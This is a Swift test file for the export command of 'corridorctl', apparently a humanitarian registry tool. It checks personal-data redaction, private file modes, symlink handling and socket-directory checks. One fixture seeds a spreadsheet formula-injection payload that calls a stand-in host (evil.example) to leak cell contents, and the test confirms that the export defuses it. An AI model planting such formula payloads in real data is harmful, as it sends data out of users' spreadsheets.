import CorridorTestSupport
import Foundation
import Testing

@Suite struct ExportCommandTests {
    /// Cases registered through corridorctl, exported as HXL and JSON, then
    /// checked by libhxl (Tests/Interop/hxl_check.py) and for personal data.
    @Test func casesExportWithoutPersonalDataAndLibhxlValidatesThem() async throws {
        let server = try await InProcessServer.startWithRegistry()
        let socket = ["--socket", server.socketPath]
        _ = try await Corridorctl.run(["site", "add", "douma", "--name", "Douma", "--kind", "city"] + socket)
        for index in 0..<5 {
            let run = try await Corridorctl.run([
                "case", "register", "--site", "douma", "--age-months", "\(6 + index * 100)", "--sex", index.isMultiple(of: 2) ? "female" : "male",
                "--precedence", "urgent", "--condition", "cancer", "--consent", "yes", "--name", "Secret Name \(index)",
                "--date-of-birth", bornAged(months: 6 + index * 100), "--identity-number", "NID-SECRET-\(index)", "--contact", "+963-555-\(index)",
                "--clinical-notes", "secret notes \(index)",
            ] + socket)
            #expect(run.status == 0, "\(run.stderr)")
        }
        let hxlPath = server.directory + "/cases.csv"
        let hxl = try await Corridorctl.run(["export", "cases", "--format", "hxl", "--output", hxlPath, "--page-size", "2"] + socket)
        let json = try await Corridorctl.run(["export", "cases", "--format", "json", "--site", "douma"] + socket)
        let text = (try? String(contentsOfFile: hxlPath, encoding: .utf8)) ?? ""
        #expect(hxl.status == 0, "\(hxl.stderr)")
        #expect(hxl.stderr.contains("exported 5 cases to \(hxlPath)"))
        #expect(json.status == 0, "\(json.stderr)")
        let lines = text.components(separatedBy: "\r\n").filter { !$0.isEmpty }
        #expect(lines.count == 7, "\(text)")
        #expect(lines[1].hasPrefix("#meta+id,#loc+code,"))
        let object = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
        #expect(object["count"] as? Int == 5)
        // Each case is its CaseView's proto3 JSON (cli.proto's CasesExport).
        #expect((object["cases"] as? [[String: Any]])?.compactMap { ($0["case"] as? [String: Any])?["id"] as? String } == ["C-000001", "C-000002", "C-000003", "C-000004", "C-000005"])
        for output in [text, json.stdout] {
            #expect(!output.contains("Secret"))
            #expect(!output.contains("SECRET"))
            #expect(!output.contains("secret"))
            for index in 0..<5 { #expect(!output.contains(bornAged(months: 6 + index * 100))) }
            #expect(!output.contains("+963"))
        }
        let check = try await TestProcess.hxlCheck(["cases=\(hxlPath)"])
        await server.stop()
        #expect(check.status == 0, "\(check.output)")
    }

    @Test func anExportTheRegistryCannotAnswerLeavesNoFile() async throws {
        let server = try await InProcessServer.startWithRegistry()
        let path = server.directory + "/figures.json"
        let run = try await Corridorctl.run(["export", "figures", "--format", "json", "--output", path, "--socket", server.socketPath])
        let bad = try await Corridorctl.run(["export", "movements", "--kind", "boat", "--socket", server.socketPath])
        if run.status != 0 {
            #expect(!FileManager.default.fileExists(atPath: path))
            #expect(try FileManager.default.contentsOfDirectory(atPath: server.directory).allSatisfy { !$0.contains("partial") })
        }
        await server.stop()
        #expect(bad.status != 0)
        #expect(bad.stderr.contains("--kind must be one of: evacuation, aid-convoy"), "\(bad.stderr)")
    }
}

extension ExportCommandTests {
    /// A figure whose free text is a spreadsheet formula, registered through corridorctl.
    private func seedFormulaFigure(_ server: InProcessServer) async throws {
        let socket = ["--socket", server.socketPath]
        let setup = [
            ["party", "add", "sarc", "--short-name", "SARC", "--kind", "red-cross-red-crescent"],
            ["site", "add", "douma", "--name", "Douma", "--kind", "city"],
            ["figure", "report", "--subject-kind", "site", "--subject", "douma", "--measure", "trapped", "--value", "500",
             "--as-of", "2018-02-01", "--source", "sarc", "--reported-in", "@briefing",
             "--note", #"=HYPERLINK("http://evil.example/?"&K3,"details")"#],
        ]
        for arguments in setup {
            let run = try await Corridorctl.run(arguments + socket)
            #expect(run.status == 0, "\(arguments): \(run.stderr)")
        }
    }

    private static func mode(_ path: String) -> mode_t? {
        var status = stat()
        return lstat(path, &status) == 0 ? status.st_mode : nil
    }

    // Issue 8, finding 5: exports were 0644 and free text ran as a formula.
    @Test func anExportFileIsPrivateAndItsFormulasDefusedAndLibhxlValidatesIt() async throws {
        let server = try await InProcessServer.startWithRegistry()
        try await seedFormulaFigure(server)
        let path = server.directory + "/figures.csv"
        let run = try await Corridorctl.run(["export", "figures", "--output", path, "--socket", server.socketPath])
        #expect(run.status == 0, "\(run.stderr)")
        #expect(Self.mode(path).map { $0 & 0o7777 } == 0o600)
        let text = (try? String(contentsOfFile: path, encoding: .utf8)) ?? ""
        #expect(text.contains(#""'=HYPERLINK(""http://evil.example/?""&K3,""details"")""#), "\(text)")
        #expect(text.contains(",'@briefing,"), "\(text)")
        #expect(text.contains(",500,"), "\(text)")
        let check = try await TestProcess.hxlCheck(["figures=\(path)"])
        await server.stop()
        #expect(check.status == 0, "\(check.output)")
    }

    // Issue 8, finding 3: the default socket's directory (/tmp/corridor-UID
    // without XDG_RUNTIME_DIR) may have been made by someone else first.
    @Test func aDefaultSocketInADirectoryOthersMayWriteIsRefusedBeforeConnecting() async throws {
        let server = try await InProcessServer.startWithRegistry()
        let runtime = server.directory + "/xdg"
        let directory = runtime + "/corridor"
        #expect(mkdir(runtime, 0o700) == 0 && mkdir(directory, 0o700) == 0)
        #expect(symlink(server.socketPath, directory + "/corridord.sock") == 0)
        let environment = ["XDG_RUNTIME_DIR": runtime]

        #expect(chmod(directory, 0o777) == 0)
        let refused = try await Corridorctl.run(["export", "figures"], environment: environment)
        #expect(chmod(directory, 0o700) == 0)
        let served = try await Corridorctl.run(["export", "figures"], environment: environment)
        await server.stop()
        #expect(refused.status != 0)
        #expect(refused.stderr.contains("PERMISSION_DENIED: refusing to connect to \(directory)/corridord.sock"), "\(refused.stderr)")
        #expect(refused.stderr.contains("mode 0777"), "\(refused.stderr)")
        #expect(refused.stdout.isEmpty)
        #expect(served.status == 0, "\(served.stderr)")
    }

    @Test func groupReadableMakesTheExport0640() async throws {
        let server = try await InProcessServer.startWithRegistry()
        let path = server.directory + "/figures.json"
        let run = try await Corridorctl.run(["export", "figures", "--format", "json", "--output", path, "--group-readable", "--socket", server.socketPath])
        let withoutOutput = try await Corridorctl.run(["export", "figures", "--group-readable", "--socket", server.socketPath])
        let mode = Self.mode(path)
        await server.stop()
        #expect(run.status == 0, "\(run.stderr)")
        #expect(mode.map { $0 & 0o7777 } == 0o640)
        #expect(withoutOutput.status != 0)
        #expect(withoutOutput.stderr.contains("--group-readable"), "\(withoutOutput.stderr)")
    }

    @Test func aSymbolicLinkAtTheOutputIsReplacedNotWrittenThrough() async throws {
        let server = try await InProcessServer.startWithRegistry()
        let victim = server.directory + "/victim.txt"
        try "precious".write(toFile: victim, atomically: true, encoding: .utf8)
        let path = server.directory + "/figures.csv"
        #expect(symlink(victim, path) == 0)
        let run = try await Corridorctl.run(["export", "figures", "--output", path, "--socket", server.socketPath])
        let existing = server.directory + "/old.csv"
        try "old".write(toFile: existing, atomically: true, encoding: .utf8)
        #expect(chmod(existing, 0o644) == 0)
        let over = try await Corridorctl.run(["export", "figures", "--output", existing, "--socket", server.socketPath])
        #expect(run.status == 0, "\(run.stderr)")
        #expect((try? String(contentsOfFile: victim, encoding: .utf8)) == "precious")
        #expect(Self.mode(path).map { $0 & S_IFMT } == S_IFREG)
        #expect(Self.mode(path).map { $0 & 0o7777 } == 0o600)
        #expect(over.status == 0, "\(over.stderr)")
        // A file that was there is replaced by a private one, not rewritten with its old mode.
        #expect(Self.mode(existing).map { $0 & 0o7777 } == 0o600)
        #expect((try? String(contentsOfFile: existing, encoding: .utf8))?.hasPrefix("Figure ID") == true)
        await server.stop()
    }
}
